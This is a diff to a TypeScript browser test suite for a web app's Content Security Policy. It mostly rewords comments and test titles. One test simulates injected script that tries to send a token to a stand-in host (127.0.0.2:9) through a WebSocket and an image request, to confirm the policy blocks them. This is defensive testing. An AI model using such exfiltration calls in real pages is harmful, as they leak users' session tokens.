@@ -12,10 +12,10 @@ const PICTURE =
   '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><rect width="9" height="9" fill="teal"/></svg>'
 
 let stage: Stage
-/** Another origin, where the operator has pictures. */
+/** Server of another origin with pictures of the operator. */
 let elsewhere: Server
 let origin = ''
-/** What was asked of it. */
+/** Paths that were requested from it. */
 const asked: string[] = []
 
 before(async () => {
@@ -33,7 +33,7 @@ after(async () => {
   await stage.close()
 })
 
-/** What the policy of the pages refuses to this visitor from now on, a line each. */
+/** Records what the policy of the pages blocks for this visitor from now on, one line each. */
 async function refusedTo({ context }: Visitor): Promise<string[]> {
   const refused: string[] = []
   await context.exposeFunction('recordRefusal', (line: string) => void refused.push(line))
@@ -46,14 +46,14 @@ async function refusedTo({ context }: Visitor): Promise<string[]> {
   return refused
 }
 
-/** Waits until the element of a page is there, or one of the home page's, and all that was asked for at first has come. */
+/** Waits until the element of a page, or one of the home page's, is attached and defined. */
 async function settled(page: Page, tag: string | null): Promise<void> {
   const element = tag ?? 'tl-ticker'
   await page.locator(element).first().waitFor({ state: 'attached' })
   await page.waitForFunction((name) => customElements.get(name) !== undefined, element)
 }
 
-test('log-in, every page, and pictures that the operator has elsewhere: the policy refuses nothing', async () => {
+test("login, every page, and the operator's pictures on another origin: the policy blocks nothing", async () => {
   await setSetting(stage, 'logo', `${origin}/logo.svg`)
   await operate(stage, 'POST', '/partners', { title: 'P', url: 'https://p.example', img: `${origin}/partner.svg` })
   const visitor = await stage.visitor()
@@ -61,18 +61,18 @@ test('log-in, every page, and pictures that the operator has elsewhere: the poli
   await signInAsDemo(visitor, stage)
   await settled(visitor.page, null)
   await until(() => asked.includes('/logo.svg'), 'the logo of the operator')
-  assert.deepEqual(refused, [], 'the home page, reached by log-in without a new document')
+  assert.deepEqual(refused, [], 'the home page, reached by the login without a new document')
   for (const { path, tag, access } of pages.filter(({ access }) => access !== 'visitor')) {
     await visitor.page.goto(`${stage.backend.address}${path}`)
     await settled(visitor.page, tag)
-    // The partners come after the element: who leaves before has not asked for their pictures.
+    // Partners are loaded after the element, so their pictures are requested last.
     if (tag === 'tl-deposit') await until(() => asked.includes('/partner.svg'), 'the picture of a partner')
     assert.deepEqual(refused, [], `${path} (${access})`)
   }
   await setSetting(stage, 'logo')
 })
 
-test('code that was slipped into a page cannot send what it finds elsewhere, by a call, a socket or a picture', async () => {
+test('injected code cannot send data elsewhere: the policy blocks calls, sockets and pictures', async () => {
   const { page } = await stage.visitor()
   await page.goto(`${stage.backend.address}/market`)
   const thief = await page.evaluate(async () => {
@@ -82,7 +82,7 @@ test('code that was slipped into a page cannot send what it finds elsewhere, by 
     try {
       new WebSocket('ws://127.0.0.2:9/?token').onerror = () => undefined
     } catch {
-      // Some browsers throw, others tell the socket.
+      // Some browsers throw, others fire an error event.
     }
     new Image().src = 'http://127.0.0.2:9/?token'
     while (refused.length < 3) await new Promise((resolve) => setTimeout(resolve, 20))
